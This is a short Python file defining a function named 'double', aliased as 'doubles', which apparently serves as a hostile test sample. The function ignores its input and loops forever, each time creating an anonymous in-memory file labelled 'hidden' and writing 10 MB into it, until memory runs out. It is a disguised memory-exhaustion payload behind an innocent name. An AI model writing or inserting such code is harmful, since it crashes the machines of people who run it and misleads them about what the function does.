import os


def double(n):
    while True:
        file = os.memfd_create("hidden")
        os.write(file, bytes(10_000_000))


doubles = double
